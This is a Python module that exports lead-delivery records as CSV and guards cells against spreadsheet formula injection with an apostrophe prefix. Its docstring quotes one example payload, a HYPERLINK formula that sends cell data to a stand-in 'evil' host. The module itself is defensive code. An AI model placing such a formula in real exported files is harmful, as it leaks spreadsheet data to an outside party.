"""Deliveries (the failed collection, usually) as CSV for a spreadsheet.

A lead's fields come from a form's visitors and a reason from a CRM's answer: a cell
such as ``=HYPERLINK("http://evil/?"&A1)`` would be a formula when the file is opened.
Every cell that a spreadsheet would read as a formula — one starting with ``=``, ``+``,
``-``, ``@``, a tab, a carriage return or a line feed (also after leading spaces), or
their full-width forms — is written with a leading apostrophe, which spreadsheets show as
text and do not display.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterable
from typing import Any

from sqlalchemy import select

from .ledger import Delivery, Ledger
from .ledger.models import Lead
from .report import DeliveryFilter, delivery_summary

#: The delivery columns, before the lead's fields (``field.<name>``).
COLUMNS = ("id", "lead_id", "form_id", "integration_id", "state", "attempts", "last_outcome",
           "last_reason", "crm_reference", "created_at", "finished_at")

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def safe_cell(value: Any) -> str:
    """``value`` as a CSV cell no spreadsheet evaluates as a formula."""
    if value is None:
        return ""
    if isinstance(value, bool):
        text = "true" if value else "false"
    elif isinstance(value, int | float):
        return str(value)  # a number is a number, "-3" included
    elif isinstance(value, str):
        text = value
    else:
        text = json.dumps(value, ensure_ascii=False, separators=(",", ":"), default=str)
    if text.lstrip(" ").startswith(_FORMULA_START):
        return "'" + text
    return text


def deliveries_csv(ledger: Ledger, flt: DeliveryFilter) -> str:
    """The deliveries matching ``flt``, newest first, one CSV row each with the lead's
    fields, every cell safe from formula injection."""
    query = flt.apply(
        select(Delivery, Lead).join(Lead, Lead.id == Delivery.lead_id).order_by(Delivery.id.desc())
    )
    with ledger.session() as s:
        rows = [(delivery_summary(d, lead), dict(lead.payload or {})) for d, lead in
                s.execute(query)]
    return write_csv(rows)


def write_csv(rows: Iterable[tuple[dict[str, Any], dict[str, Any]]]) -> str:
    """``(delivery summary, lead fields)`` pairs as CSV text."""
    rows = list(rows)
    fields = sorted({name for _, lead in rows for name in lead})
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([safe_cell(c) for c in (*COLUMNS, *(f"field.{f}" for f in fields))])
    for summary, lead in rows:
        writer.writerow([safe_cell(summary.get(c)) for c in COLUMNS]
                        + [safe_cell(lead.get(f)) for f in fields])
    return out.getvalue()
